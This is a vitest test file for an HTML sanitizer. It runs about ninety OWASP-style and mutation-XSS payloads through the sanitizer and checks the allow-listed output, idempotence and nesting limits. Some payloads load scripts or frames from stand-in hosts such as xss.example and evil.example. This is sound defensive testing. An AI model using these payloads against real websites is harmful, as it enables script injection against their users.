import { describe, expect, it } from 'vitest';
import sanitizeHtml from 'sanitize-html';
import { ALLOWED_TAGS, MAX_NESTING, NestingTooDeepError, isHttpsImageSource, sanitizePageBody } from '../../shared/domain/page/sanitize.ts';

const ALLOWED_ATTRIBUTES: Record<string, string[]> = {
  a: ['href', 'title'],
  img: ['src', 'alt', 'title', 'width', 'height'],
  ol: ['start'],
  th: ['colspan', 'rowspan', 'scope'],
  td: ['colspan', 'rowspan'],
};

/**
 * What a sanitized body must be, checked two ways: without a parser (every `<` opens an allowed
 * tag, since text `<` is always escaped) and with one (every element and attribute allowed,
 * every URL of an allowed kind). Plus idempotence: sanitizing the output again changes nothing,
 * so nothing in it depends on a second reading.
 */
function expectSafe(output: string) {
  for (const m of output.matchAll(/<\/?([^\s/>]*)/g)) expect(ALLOWED_TAGS, `tag in ${output}`).toContain(m[1]!.toLowerCase());
  expect(output).not.toMatch(/<!--|<!\[CDATA|<\?/);
  // Attribute names of every tag (values are always double-quoted, with `"` escaped inside).
  for (const tag of output.match(/<[^>]*>/g) ?? []) {
    expect(tag.replace(/"[^"]*"/g, '""').toLowerCase()).not.toMatch(/\s(on[a-z]+|style|srcdoc|srcset|xlink:href|background|formaction)\s*=/);
  }
  const seen: { name: string; attribs: Record<string, string> }[] = [];
  sanitizeHtml(output, {
    allowedTags: false,
    allowedAttributes: false,
    allowVulnerableTags: true,
    onOpenTag: (name, attribs) => seen.push({ name, attribs }),
  });
  for (const { name, attribs } of seen) {
    expect(ALLOWED_TAGS).toContain(name);
    for (const [attr, value] of Object.entries(attribs)) {
      expect(ALLOWED_ATTRIBUTES[name] ?? [], `${name}[${attr}] in ${output}`).toContain(attr);
      if (attr === 'src') expect(value).toMatch(/^https:\/\/[^/]/);
      if (attr === 'href') expect(value.replace(/[\x00-\x20]/g, '')).toMatch(/^(https?:\/\/[^/]|mailto:|[/#?]|[^:]*$)/i);
    }
  }
  expect(sanitizePageBody(output)).toBe(output);
}

// OWASP XSS Filter Evasion Cheat Sheet style payloads, plus mutation-XSS and parser-confusion forms.
const PAYLOADS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://ok.example/a.png" onerror="alert(1)">',
  '<IMG SRC="javascript:alert(\'XSS\');">',
  '<IMG SRC=JaVaScRiPt:alert(1)>',
  '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>',
  '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>',
  '<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>',
  '<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>',
  '<IMG SRC="jav\tascript:alert(1);">',
  '<IMG SRC="jav&#x09;ascript:alert(1);">',
  '<IMG SRC="jav&#x0A;ascript:alert(1);">',
  '<IMG SRC="jav&#x0D;ascript:alert(1);">',
  '<IMG SRC=" &#14;  javascript:alert(1);">',
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">',
  '<IMG SRC=# onmouseover="alert(1)">',
  '<IMG onmouseover="alert(1)">',
  '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
  '<img src="http://insecure.example/a.png">',
  '<img src="//cdn.example/a.png">',
  '<img src="/relative/a.png">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img srcset="javascript:alert(1) 1x, https://ok.example/a.png 2x" src="https://ok.example/a.png">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="&#x6A;avascript:alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="java&Tab;script:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="javas<!-- -->cript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="//evil.example/">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="https://ok.example/" onclick="alert(1)" target="_blank">x</a>',
  '<a href="https://ok.example/" style="position:fixed;top:0;left:0;width:100%;height:100%">x</a>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<math><mi><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=alert(1)>"></style></h1>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<iframe src="https://evil.example/"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<IFRAME SRC="javascript:alert(1);"></IFRAME>',
  '<FRAMESET><FRAME SRC="javascript:alert(1);"></FRAMESET>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<style>@import "https://evil.example/x.css";</style>',
  '<STYLE>li {list-style-image: url("javascript:alert(1)");}</STYLE><UL><LI>XSS</br>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<DIV STYLE="width: expression(alert(1));">x</DIV>',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1);">',
  '<base href="javascript:alert(1)//">',
  '<body onload=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror="alert(1)"></video>',
  '<textarea><script>alert(1)</script></textarea>',
  '<title><script>alert(1)</script></title>',
  '<xmp><script>alert(1)</script></xmp>',
  '<template><script>alert(1)</script></template>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<SCRIPT>alert("XSS");//<</SCRIPT>',
  '<SCRIPT/XSS SRC="https://xss.example/xss.js"></SCRIPT>',
  '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
  '<p onclick=alert(1)>x</p>',
  '<p/onclick=alert(1)>x</p>',
  '<p id="x" class="y" data-x="1" dir="rtl" lang="en">x</p>',
  '<h1 onmouseover="alert(1)">x</h1>',
  '<table background="javascript:alert(1)"><tr><td background="javascript:alert(1)">x</td></tr></table>',
  '<blockquote cite="javascript:alert(1)">q</blockquote>',
  '<!--[if gte IE 4]><SCRIPT>alert(1);</SCRIPT><![endif]-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>",
  '<a href="https://ok.example/">x</a"><script>alert(1)</script>',
  '<img src="https://ok.example/a.png" alt="&quot; onerror=&quot;alert(1)">',
  '<a title="&lt;script&gt;alert(1)&lt;/script&gt;" href="https://ok.example/">x</a>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
];

describe('sanitizePageBody: XSS payloads', () => {
  it.each(PAYLOADS)('neutralizes %s', (payload) => {
    expectSafe(sanitizePageBody(payload));
  });

  it('drops scripts, styles and their content entirely', () => {
    expect(sanitizePageBody('<p>a</p><script>alert(1)</script><style>p{}</style><p>b</p>')).toBe('<p>a</p><p>b</p>');
  });

  it('drops an image whose source is not an absolute https URL, and every event handler of one that is', () => {
    expect(sanitizePageBody('<img src=x onerror=alert(1)>')).toBe('');
    expect(sanitizePageBody('<img src="http://insecure.example/a.png">')).toBe('');
    expect(sanitizePageBody('<img src="data:image/png;base64,AAAA">')).toBe('');
    expect(sanitizePageBody('<img src="https://ok.example/a.png" onerror="alert(1)">')).toBe('<img src="https://ok.example/a.png" />');
  });

  it('keeps the text of a link whose target is refused, and drops the link', () => {
    for (const href of ['javascript:alert(1)', 'JaVaScRiPt:alert(1)', '&#106;avascript:alert(1)', 'data:text/html,x', 'vbscript:x', '//evil.example/']) {
      expect(sanitizePageBody(`<a href="${href}">click <b>me</b></a>`)).toBe('click <b>me</b>');
    }
  });

  it('drops SVG, MathML, iframes and other embedded documents with their content', () => {
    expect(sanitizePageBody('<svg onload=alert(1)><text>hi</text></svg>after')).toBe('after');
    expect(sanitizePageBody('<iframe src="https://x.example/">fallback</iframe>after')).toBe('after');
    expect(sanitizePageBody('<math><mi>x</mi></math>after')).toBe('after');
  });

  it('keeps text that looks like markup as text', () => {
    expect(sanitizePageBody('&lt;script&gt;alert(1)&lt;/script&gt;')).toBe('&lt;script&gt;alert(1)&lt;/script&gt;');
    expect(sanitizePageBody('<p>1 < 2 & 3 > 2</p>')).toBe('<p>1 &lt; 2 &amp; 3 &gt; 2</p>');
  });

  it('removes control characters and mends lone surrogates', () => {
    expect(sanitizePageBody('<p>a\u0000b\u0007c\u001Fd\u007Fe</p>')).toBe('<p>abcde</p>');
    expect(sanitizePageBody('<p>a\tb\nc</p>')).toBe('<p>a\tb\nc</p>');
    expect(sanitizePageBody('<p>\uD800x\uDC00 😀</p>')).toBe('<p>\uFFFDx\uFFFD 😀</p>');
  });
});

describe('sanitizePageBody: the allow-list keeps ordinary content', () => {
  const KEPT = [
    '<h1>Title</h1><h2>A</h2><h3>B</h3><h4>C</h4><h5>D</h5><h6>E</h6>',
    '<p>Plain <em>emphasis</em>, <strong>strong</strong>, <b>bold</b>, <i>italic</i> and <code>code</code>.</p>',
    '<p>line<br />break</p><hr />',
    '<ul><li>one</li><li>two</li></ul><ol start="3"><li>three</li></ol>',
    '<blockquote><p>Quoted</p></blockquote><pre><code>const a = 1;</code></pre>',
    '<table><caption>Sizes</caption><thead><tr><th scope="col">A</th></tr></thead><tbody><tr><td colspan="2" rowspan="1">1</td></tr></tbody><tfoot><tr><td>f</td></tr></tfoot></table>',
    '<p><a href="https://example.com/a?b=1&amp;c=2" title="Example">https</a> <a href="http://example.com/">http</a> <a href="mailto:shop@example.com">mail</a></p>',
    '<p><a href="/about-us">relative</a> <a href="#top">anchor</a> <a href="?page=2">query</a></p>',
    '<p><img src="https://cdn.example.com/oak.jpg" alt="Oak chair" title="Chair" width="640" height="480" /></p>',
    '<p>Ünïcödé — “quotes” &amp; emoji 😀</p>',
  ];
  it.each(KEPT)('keeps %s', (html) => {
    expect(sanitizePageBody(html)).toBe(html);
  });

  it('unwraps tags outside the list but keeps their text', () => {
    expect(sanitizePageBody('<div><span class="x">Hello</span> <u>world</u></div>')).toBe('Hello world');
  });

  it('normalizes markup spelling (case, quotes, void elements)', () => {
    expect(sanitizePageBody("<P>x<BR><IMG SRC='https://a.example/i.png' ALT=pic></P>")).toBe('<p>x<br /><img src="https://a.example/i.png" alt="pic" /></p>');
  });
});

describe('sanitizePageBody: nesting bound (the parser is quadratic in depth)', () => {
  it('accepts nesting up to the bound, with unclosed or mismatched tags counted as the parser counts them', () => {
    const deep = '<blockquote>'.repeat(MAX_NESTING) + 'x' + '</blockquote>'.repeat(MAX_NESTING);
    expect(sanitizePageBody(deep)).toBe(deep);
    // Implied closes (`<p>` after `<p>`, `<li>` after `<li>`) and void elements do not nest.
    expect(() => sanitizePageBody('<ul>' + '<li>x'.repeat(5000) + '</ul>' + '<p>y'.repeat(5000) + '<br>'.repeat(5000))).not.toThrow();
  });

  it('refuses deeper nesting fast, even of tags that would be removed', () => {
    for (const html of ['<b>'.repeat(MAX_NESTING + 1), '<span>'.repeat(300_000), '<b></x>'.repeat(300_000)]) {
      const started = performance.now();
      expect(() => sanitizePageBody(html)).toThrow(NestingTooDeepError);
      expect(performance.now() - started).toBeLessThan(500);
    }
  });

  it('stays linear for a 1 MiB body just inside the bound', () => {
    const html = ('<b>'.repeat(MAX_NESTING - 1) + '</b>'.repeat(MAX_NESTING - 1)).repeat(Math.floor((1024 * 1024) / (7 * MAX_NESTING)));
    const started = performance.now();
    sanitizePageBody(html);
    expect(performance.now() - started).toBeLessThan(5000);
  });
});

describe('isHttpsImageSource', () => {
  it.each([
    ['https://cdn.example.com/a.png', true],
    ['HTTPS://CDN.example.com/a.png', true],
    [' https://cdn.example.com/a.png', true],
    ['http://cdn.example.com/a.png', false],
    ['//cdn.example.com/a.png', false],
    ['/a.png', false],
    ['a.png', false],
    ['https:/a.png', false],
    ['https:///a.png', false],
    ['https:\\\\evil.example', false],
    ['data:image/png;base64,AAAA', false],
    ['javascript:alert(1)', false],
  ])('%s → %s', (src, ok) => {
    expect(isHttpsImageSource(src)).toBe(ok);
  });
});
